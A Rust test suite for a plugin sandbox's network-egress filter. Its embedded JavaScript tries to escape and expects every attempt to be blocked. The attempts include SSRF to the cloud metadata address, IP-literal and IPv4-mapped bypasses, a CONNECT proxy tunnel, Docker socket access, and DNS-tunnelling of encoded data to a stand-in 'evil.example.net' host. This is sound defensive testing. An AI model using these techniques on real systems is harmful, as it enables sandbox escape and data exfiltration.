//! Attempts to leave the jail's network: all are refused, and all are logged.

use openneko_sandbox::SandboxError;
use openneko_sandbox::egress::{Denial, Reason};
use serde_json::{Value, json};

use super::world::World;

/// The helpers of every attempt.
const PRELUDE: &str = r#"
import dgram from 'node:dgram'; import dns from 'node:dns/promises'; import net from 'node:net'; import tls from 'node:tls';
const results = {};
async function attempt(name, run) {
  try { results[name] = String(await Promise.race([run(), new Promise((_, no) => setTimeout(no, 5000, { code: 'SILENCE' }))])); }
  catch (error) { results[name] = 'error ' + (error?.cause?.code ?? error?.code ?? error?.cause?.message ?? error); }
}
const get = async (url, options) => (await fetch(url, options)).text();
const connected = (options) => new Promise((yes, no) => {
  const socket = net.connect(options); let got = '';
  socket.on('error', no).on('data', (data) => { got += data; }).on('close', () => yes('closed ' + got));
  socket.on('connect', () => socket.write(options.say ?? 'hello'));
});
const secured = (options) => new Promise((yes, no) => {
  const socket = tls.connect({ rejectUnauthorized: false, ...options }, () => { socket.destroy(); yes('secured'); });
  socket.on('error', no).on('close', () => no(new Error('closed')));
});
const datagram = (family, port, host) => new Promise((yes, no) => {
  const socket = dgram.createSocket(family);
  socket.on('error', no).on('message', (data) => yes('answer ' + data));
  socket.send('hello', port, host, (error) => error ? no(error) : setTimeout(() => yes('silence'), 200));
});
"#;

/// Runs attempts and returns the result of each, and the denials.
async fn attempts(world: &World, body: &str) -> (Value, Vec<Denial>) {
    run(world.friend(&source(body))).await
}

fn source(body: &str) -> String {
    format!("{PRELUDE}\n{body}\nprocess.stdout.write(JSON.stringify(results)); process.exit(0);")
}

async fn run(plugin: super::support::Plugin) -> (Value, Vec<Denial>) {
    let outcome = plugin.call("run", "{}").await.unwrap();
    assert_eq!(outcome.exit, 0, "{}", String::from_utf8_lossy(&outcome.stderr));
    (serde_json::from_slice(&outcome.stdout).unwrap(), outcome.denials)
}

fn has(denials: &[Denial], host: &str, port: Option<u16>, reason: &Reason) -> bool {
    denials.contains(&Denial::new(host, port, reason.clone()))
}

#[tokio::test]
async fn a_granted_host_is_reached_and_nothing_is_denied() {
    let world = World::start().await;
    let (results, denials) = attempts(
        &world,
        "await attempt('fetch', () => get('https://api.example.com:PORT/'));
         await attempt('lookup', async () => (await dns.lookup('api.example.com')).address);
         await attempt('many', async () => (await Promise.all([1, 2, 3].map(() => get('https://b.example.com:PORT/')))).join());",
    )
    .await;
    assert_eq!(
        results,
        json!({"fetch": "hi", "lookup": "198.18.0.1", "many": "hi,hi,hi"})
    );
    assert_eq!(denials, []);
    assert_eq!(world.served(), 4);
}

#[tokio::test]
async fn names_and_ports_that_are_not_granted_are_refused() {
    let world = World::start().await;
    let (results, denials) = attempts(
        &world,
        "await attempt('other', () => get('https://evil.example.net:PORT/'));
         await attempt('apex', () => get('https://example.com:PORT/'));
         await attempt('deeper', () => get('https://a.b.example.com:PORT/'));
         await attempt('localhost', () => get('https://localhost:PORT/'));
         await attempt('port', () => get('https://api.example.com:8443/'));
         await attempt('https', () => get('https://api.example.com/'));
         await attempt('http', () => get('http://api.example.com/'));
         await attempt('away', () => get('https://api.example.com:PORT/away'));",
    )
    .await;
    for (name, code) in [
        ("other", "ENOTFOUND"),
        ("apex", "ENOTFOUND"),
        ("deeper", "ENOTFOUND"),
        ("localhost", "ENOTFOUND"),
        ("port", "ECONNREFUSED"),
        ("https", "ECONNRESET"),
        ("http", "ECONNREFUSED"),
        ("away", "ENOTFOUND"),
    ] {
        assert_eq!(results[name], format!("error {code}"), "{name}: {results}");
    }
    for (host, port, reason) in [
        ("evil.example.net", None, Reason::NotGranted),
        ("example.com", None, Reason::NotGranted),
        ("a.b.example.com", None, Reason::NotGranted),
        ("localhost", None, Reason::NotGranted),
        ("api.example.com", Some(8443), Reason::Port),
        ("api.example.com", Some(443), Reason::Port),
        ("api.example.com", Some(80), Reason::Port),
    ] {
        assert!(has(&denials, host, port, &reason), "{host} {port:?}: {denials:?}");
    }
    assert_eq!(world.served(), 1, "the redirect itself, and nobody followed it");
}

#[tokio::test]
async fn addresses_in_place_of_names_lead_nowhere() {
    let world = World::start().await;
    let (results, denials) = attempts(
        &world,
        "await attempt('a', () => get('https://1.1.1.1/'));
         await attempt('b', () => get('https://127.0.0.1:PORT/'));
         await attempt('c', () => get('http://169.254.169.254/latest/meta-data'));
         await attempt('d', () => get('https://2130706433:PORT/'));
         await attempt('e', () => get('https://[::1]:PORT/'));
         await attempt('f', () => get('https://[2606:4700::1111]/'));
         await attempt('g', () => get('https://[::ffff:127.0.0.1]:PORT/'));
         await attempt('h', () => get('https://198.18.0.200:PORT/'));
         await attempt('i', () => get('https://user@10.0.0.1/'));
         await attempt('raw', () => connected({ host: '8.8.8.8', port: 25 }));
         await attempt('raw6', () => connected({ host: '2001:4860:4860::8888', port: 25 }));",
    )
    .await;
    for (name, result) in results.as_object().unwrap() {
        let result = result.as_str().unwrap();
        assert!(
            result.starts_with("error ") && result != "error SILENCE",
            "{name}: {result}"
        );
    }
    for (host, port) in [
        ("1.1.1.1", 443),
        ("127.0.0.1", world.port),
        ("169.254.169.254", 80),
        ("::1", world.port),
        ("2606:4700::1111", 443),
        ("198.18.0.200", world.port),
        ("8.8.8.8", 25),
        ("2001:4860:4860::8888", 25),
    ] {
        assert!(
            has(&denials, host, Some(port), &Reason::IpLiteral),
            "{host}: {results} {denials:?}"
        );
    }
    assert_eq!(world.served(), 0);
}

#[tokio::test]
async fn what_is_not_tls_for_the_granted_name_is_cut() {
    let world = World::start().await;
    let (results, denials) = attempts(
        &world,
        "const to = { host: 'api.example.com', port: PORT };
         await attempt('good', () => secured({ ...to, servername: 'api.example.com' }));
         await attempt('other', () => secured({ ...to, servername: 'evil.example.net' }));
         await attempt('sibling', () => secured({ ...to, servername: 'b.example.com' }));
         await attempt('none', () => secured({ ...to, host: (await_address), servername: '' }));
         await attempt('plain', () => connected({ ...to, host: 'plain.example.com' }));
         await attempt('connect', () => connected({ ...to, host: 'proxy.example.com', say: 'CONNECT evil.example.net:443 HTTP/1.1\\r\\n\\r\\n' }));
         await attempt('http', () => get('http://http.example.com:PORT/'));"
            .replace("(await_address)", "'198.18.0.1'")
            .as_str(),
    )
    .await;
    assert_eq!(results["good"], "secured");
    for name in ["other", "sibling", "none", "plain", "connect", "http"] {
        let result = results[name].as_str().unwrap();
        assert!(
            result.starts_with("error ") && result != "error SILENCE",
            "{name}: {result}"
        );
    }
    for (host, reason) in [
        ("api.example.com", Reason::TlsName),
        ("plain.example.com", Reason::NotTls),
        ("proxy.example.com", Reason::NotTls),
        ("http.example.com", Reason::NotTls),
    ] {
        assert!(
            has(&denials, host, Some(world.port), &reason),
            "{host}: {denials:?}"
        );
    }
    assert_eq!(world.served(), 0);
}

#[tokio::test]
async fn datagrams_and_other_protocols_go_nowhere() {
    let world = World::start().await;
    let (results, denials) = attempts(
        &world,
        "await dns.lookup('api.example.com');
         await attempt('dns', () => datagram('udp4', 53, '8.8.8.8'));
         await attempt('quic', () => datagram('udp4', 443, '198.18.0.1'));
         await attempt('six', () => datagram('udp6', 53, '2001:4860:4860::8888'));
         await attempt('listen', () => new Promise((yes, no) => net.createServer().on('error', no).listen(8080, () => yes('listens'))));
         await attempt('unix', () => connected({ path: '/run/docker.sock' }));
         await attempt('abstract', () => connected({ path: '\\0hidden' }));",
    )
    .await;
    for name in ["dns", "quic", "six"] {
        let result = results[name].as_str().unwrap();
        assert!(!result.starts_with("answer"), "{name}: {result}");
    }
    for name in ["listen", "unix", "abstract"] {
        let result = results[name].as_str().unwrap();
        assert!(result.starts_with("error E"), "{name}: {result}");
    }
    for (host, port) in [
        ("8.8.8.8", 53),
        ("api.example.com", 443),
        ("2001:4860:4860::8888", 53),
    ] {
        assert!(
            has(&denials, host, Some(port), &Reason::Protocol),
            "{host}: {denials:?}"
        );
    }
}

#[tokio::test]
async fn names_cannot_carry_data_out() {
    let world = World::start().await;
    let (results, denials) = attempts(
        &world,
        "const tunnel = new dns.Resolver({ timeout: 300, tries: 1 });
         await attempt('txt', () => dns.resolveTxt('c2VjcmV0.evil.example.net'));
         await attempt('granted txt', () => dns.resolveTxt('c2VjcmV0.example.com'));
         await attempt('six', () => dns.resolve6('c2VjcmV0.example.com'));
         tunnel.setServers(['8.8.8.8']);
         await attempt('server', () => tunnel.resolve4('c2VjcmV0.evil.example.net'));
         const names = Array.from({ length: 200 }, (_, i) => 'x' + i + '.example.com');
         const found = await Promise.all(names.map((name) => dns.lookup(name).then(() => 1, () => 0)));
         results.found = found.reduce((a, b) => a + b);",
    )
    .await;
    for name in ["txt", "granted txt", "six", "server"] {
        assert!(
            results[name].as_str().unwrap().starts_with("error E"),
            "{name}: {results}"
        );
    }
    assert!(results["found"].as_u64().unwrap() <= 64, "{results}");
    assert!(
        has(&denials, "c2vjcmv0.evil.example.net", None, &Reason::NotGranted)
            || has(&denials, "c2VjcmV0.evil.example.net", None, &Reason::NotGranted),
        "{denials:?}"
    );
    assert_eq!(world.served(), 0);
}

#[tokio::test]
async fn a_name_that_turns_private_is_refused() {
    let world = World::start().await;
    let body = source("await attempt('fetch', () => get('https://api.example.com:PORT/'));");
    for answers in [
        &[["127.0.0.1"].as_slice()].as_slice(),
        &[["203.0.114.1", "127.0.0.1"].as_slice()].as_slice(),
        &[["::ffff:127.0.0.1"].as_slice()].as_slice(),
        &[["169.254.169.254"].as_slice()].as_slice(),
    ] {
        let (results, denials) = run(world.plugin(&body, answers, false)).await;
        assert!(
            results["fetch"].as_str().unwrap().starts_with("error "),
            "{results}"
        );
        assert!(
            matches!(
                denials[..],
                [Denial {
                    reason: Reason::NotPublic(_),
                    ..
                }]
            ),
            "{denials:?}"
        );
    }
    // First public, then private: an address that was checked is the one that is dialled.
    let (results, denials) = run(world.plugin(&body, &[&["192.0.2.1"], &["127.0.0.1"]], false)).await;
    assert!(
        results["fetch"].as_str().unwrap().starts_with("error "),
        "{results}"
    );
    assert!(!denials.is_empty());
    // An operator's word for private addresses does not cover metadata.
    let (_, denials) = run(world.plugin(&body, &[&["169.254.169.254"]], true)).await;
    assert!(
        matches!(
            denials[..],
            [Denial {
                reason: Reason::NotPublic(_),
                ..
            }]
        ),
        "{denials:?}"
    );
    assert_eq!(world.served(), 0);
}

#[tokio::test]
async fn bytes_and_connections_are_counted() {
    let world = World::start().await;
    let body = source("await attempt('endless', () => get('https://api.example.com:PORT/endless'));");
    let plugin = world
        .friend(&body)
        .limited(|limits| limits.received_bytes = 1 << 20);
    let (results, denials) = run(plugin).await;
    assert!(
        results["endless"].as_str().unwrap().starts_with("error "),
        "{results}"
    );
    assert!(
        has(&denials, "api.example.com", Some(world.port), &Reason::Bytes),
        "{denials:?}"
    );

    let body = source(
        "await attempt('upload', () => get('https://api.example.com:PORT/sink', { method: 'POST', body: Buffer.alloc(4 << 20) }));",
    );
    let plugin = world.friend(&body).limited(|limits| limits.sent_bytes = 1 << 20);
    let (_, denials) = run(plugin).await;
    assert!(
        has(&denials, "api.example.com", Some(world.port), &Reason::Bytes),
        "{denials:?}"
    );

    let body = source(
        "const open = () => new Promise((yes, no) => {
           const socket = tls.connect({ host: 'api.example.com', port: PORT, servername: 'api.example.com', rejectUnauthorized: false }, () => yes(1));
           socket.on('error', () => yes(0)).on('close', () => yes(0));
         });
         const opened = await Promise.all(Array.from({ length: 12 }, open));
         results.open = opened.reduce((a, b) => a + b);",
    );
    let plugin = world.friend(&body).limited(|limits| limits.connections = 4);
    let (results, denials) = run(plugin).await;
    assert_eq!(results["open"], 4);
    assert!(
        has(
            &denials,
            "api.example.com",
            Some(world.port),
            &Reason::Connections
        ),
        "{denials:?}"
    );
}

#[tokio::test]
async fn connections_that_say_nothing_do_not_pile_up() {
    let world = World::start().await;
    let (results, denials) = attempts(
        &world,
        "const sockets = []; let refused = 0;
         for (let i = 0; i < 60; i++) sockets.push(new Promise((yes) => {
           const socket = net.connect({ host: 'api.example.com', port: PORT });
           socket.on('error', () => { refused++; yes(); }).on('connect', () => setTimeout(yes, 500));
         }));
         await Promise.all(sockets); results.refused = refused;",
    )
    .await;
    assert!(results["refused"].as_u64().unwrap() >= 20, "{results}");
    assert!(
        has(
            &denials,
            "api.example.com",
            Some(world.port),
            &Reason::Connections
        ),
        "{denials:?}"
    );
}

#[tokio::test]
async fn what_was_tried_before_a_timeout_is_known() {
    let world = World::start().await;
    let plugin = world
        .friend(&source(
            "await attempt('other', () => get('https://evil.example.net/')); for(;;);",
        ))
        .timeout(std::time::Duration::from_secs(8));
    let failure = plugin.call("run", "{}").await.unwrap_err();
    assert!(matches!(failure.error, SandboxError::Timeout(_)), "{failure}");
    assert!(
        has(&failure.denials, "evil.example.net", None, &Reason::NotGranted),
        "{:?}",
        failure.denials
    );
}
